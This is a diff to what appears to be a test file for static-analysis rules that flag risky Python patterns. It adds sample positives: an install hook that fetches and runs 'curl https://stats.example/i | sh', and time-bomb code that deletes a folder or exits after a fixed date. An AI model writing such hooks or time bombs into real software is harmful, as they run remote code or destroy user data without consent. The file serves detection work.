@@ -62,3 +62,25 @@ def report(url):
 if __name__ == "__main__":
     # ok: askfirst.python.network-at-import
     requests.get("http://127.0.0.1/", timeout=5)
+
+
+class Hooked(install):
+    def run(self):
+        # ruleid: askfirst.python.install-hook
+        urllib.request.urlopen("https://stats.example/i")
+        # ruleid: askfirst.python.install-hook
+        subprocess.run("curl https://stats.example/i | sh", shell=True)
+        # ok: askfirst.python.install-hook
+        subprocess.run(["msgfmt", "a.po"])
+
+
+def tidy(folder):
+    # ruleid: askfirst.python.time-bomb
+    if datetime.datetime.now() > datetime.datetime(2026, 5, 1):
+        shutil.rmtree(folder)
+    # ruleid: askfirst.python.time-bomb
+    if datetime.date.today() >= datetime.date(2026, 5, 1):
+        os._exit(1)
+    # ok: askfirst.python.time-bomb
+    if datetime.date.today() >= datetime.date(2026, 5, 1):
+        print("a new year")
